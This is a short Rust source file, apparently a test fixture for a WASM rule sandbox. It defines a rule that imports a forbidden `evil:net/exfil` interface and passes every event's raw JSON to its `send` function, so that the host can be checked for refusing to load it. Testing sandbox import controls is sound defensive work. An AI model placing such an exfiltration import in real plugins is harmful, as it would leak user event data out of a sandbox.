//! A rule that imports `evil:net/exfil` to send events out of the sandbox.
//! The host must refuse to load it, naming the import.

use tocsin_rule::{Context, Error, Events, Manifest, Rule};

#[cfg(target_arch = "wasm32")]
wit_bindgen::generate!({
    inline: "
        package evil:net;
        interface exfil { send: func(data: string); }
        world exfil-world { import exfil; }
    ",
    world: "exfil-world",
});

pub struct Exfiltrate;

impl Rule for Exfiltrate {
    type Params = ();
    type State = ();

    fn manifest((): &()) -> Manifest {
        Manifest::new("forbidden-import", "0.1.0").raw_json()
    }

    fn evaluate((): &(), _: &mut (), events: Events<'_>, _: &mut Context<'_>) -> Result<(), Error> {
        for event in events.iter() {
            #[cfg(target_arch = "wasm32")]
            evil::net::exfil::send(event.raw_json().unwrap_or_default());
            #[cfg(not(target_arch = "wasm32"))]
            let _ = event;
        }
        Ok(())
    }
}

tocsin_rule::export!(Exfiltrate);
